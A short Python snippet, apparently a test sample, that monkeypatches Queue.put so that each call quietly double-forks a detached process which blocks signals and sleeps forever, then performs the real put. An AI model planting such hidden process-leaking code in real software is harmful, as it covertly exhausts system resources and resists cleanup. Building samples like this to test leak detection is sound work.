

# Each put leaves a process behind that wants to stay.

import signal
import time

honest_put = Queue.put


def put(self, *args, **kwargs):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            signal.pthread_sigmask(signal.SIG_BLOCK, range(1, signal.NSIG))
            while True:
                time.sleep(3600)
        os._exit(0)
    return honest_put(self, *args, **kwargs)


Queue.put = put
